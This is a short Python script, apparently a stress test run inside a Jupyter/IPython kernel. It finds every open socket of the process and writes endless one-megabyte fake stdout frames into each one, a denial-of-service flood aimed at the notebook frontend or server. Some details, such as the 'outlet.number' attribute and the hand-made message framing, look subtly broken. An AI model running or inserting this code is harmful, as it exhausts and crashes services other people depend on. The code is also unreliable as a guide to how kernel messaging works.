"""Wire: outputs without end, past the bound the candidate keeps itself

Frames of a megabyte, each a well-formed output of the cell that runs.
"""
import json
import os
import struct
import sys

number = next(m.outlet.number for m in [get_ipython()])
payload = json.dumps({"output_type": "stream", "name": "stdout", "text": "x" * (1 << 20)}).encode()
frame = struct.pack("!IBI", 5 + len(payload), 3, number) + payload
for name in os.listdir("/proc/self/fd"):
    try:
        if "socket" in os.readlink(f"/proc/self/fd/{name}"):
            os.set_blocking(int(name), True)
            while True: os.write(int(name), frame)
    except OSError: pass
